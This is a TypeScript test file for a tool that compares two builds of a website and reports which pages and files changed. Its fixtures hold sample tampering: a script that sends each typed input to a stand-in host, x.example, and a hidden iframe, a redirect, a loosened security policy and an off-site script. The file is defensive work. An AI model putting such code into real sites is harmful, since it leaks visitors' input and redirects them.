/** What a report says of sites as they were built: facts alone, because nobody can tell what code does by reading words. */
import { expect, test } from 'vitest';
import { compareBuilt } from '../../src/authoring/review/built-site.ts';
import { makeReport, readContentState } from '../../src/authoring/review/make-report.ts';
import { toTerminalLines } from '../../src/authoring/review/format-report.ts';
import { validTexts } from '../support/valid-texts.ts';
import { treeOfTexts } from '../support/content-report.ts';

const builtSite = (files: Record<string, string>) =>
  new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]));
const pageHtml = '<script type="module" src="/_astro/form.12345678.js"></script><p>Look back together.</p>';
const filesBefore = {
  '404.html': '<p>Not found</p>',
  'resources/role-plays/index.html': pageHtml,
  '_astro/form.12345678.js': 'const a = "(not filled in)";',
  'programme.ics': 'DTSTAMP:20260101T000000Z\nSUMMARY:Start\n',
};
const changedFile = { path: 'src/a.ts', added: 1, removed: 0 };

/** What a report on a change of code says of two built sites. */
function reportLines(filesAfter: Record<string, string>): string[] {
  const state = readContentState(treeOfTexts(validTexts()));
  const [base, head] = ['main', 'here'].map((name) => ({ name, commit: undefined }));
  if (!base || !head) throw new Error('There are two sides.');
  const context = { base, head, note: undefined, changedFiles: [changedFile] };
  return toTerminalLines(
    makeReport(state, state, context, compareBuilt(builtSite(filesBefore), builtSite(filesAfter))),
  );
}

test('says which files differ, byte for byte but for hashes in their names and the time, and how many do not', () => {
  const { '_astro/form.12345678.js': script, ...otherFiles } = filesBefore;
  const lines = reportLines({
    ...otherFiles,
    'resources/role-plays/index.html': pageHtml.replace('12345678', 'abcdefgh'),
    'programme.ics': filesBefore['programme.ics'].replace('2026', '2027'),
    '_astro/form.abcdefgh.js': `${script}addEventListener("input", (e) => fetch("//x.example/?" + e.data));`,
    'extra.txt': 'New',
  });
  expect(lines.slice(lines.indexOf('WHAT FOLLOWS FROM IT'))).toEqual([
    'WHAT FOLLOWS FROM IT',
    '',
    '= Built with the code of this change',
    '1 file different, byte for byte',
    '    - _astro/form.js',
    '1 file new',
    '    - extra.txt',
    '3 files equal',
  ]);
});

test.each<[what: string, from: string, to: string]>([
  ['a hidden frame', '<p>', '<iframe hidden src="https://x.example/"></iframe><p>'],
  ['a page that leads away', '<p>', '<meta http-equiv="refresh" content="0;url=https://x.example/"><p>'],
  ['a loosened policy', '<p>', '<meta http-equiv="content-security-policy" content="connect-src *"><p>'],
  ['a script in the page', '<p>', '<script>fetch("//x.example")</script><p>'],
  [
    'what is like a hash in the name of a file elsewhere',
    '/_astro/form.12345678.js',
    'https://x.example/form.87654321.js',
  ],
])('names the page with %s, and never says that nothing changes', (_, from, to) => {
  const lines = reportLines({
    ...filesBefore,
    'resources/role-plays/index.html': pageHtml.replace(from, to),
  });
  expect(lines).toContain('    - resources/role-plays/index.html');
  expect(lines.join('\n')).not.toContain('Nothing changes');
});
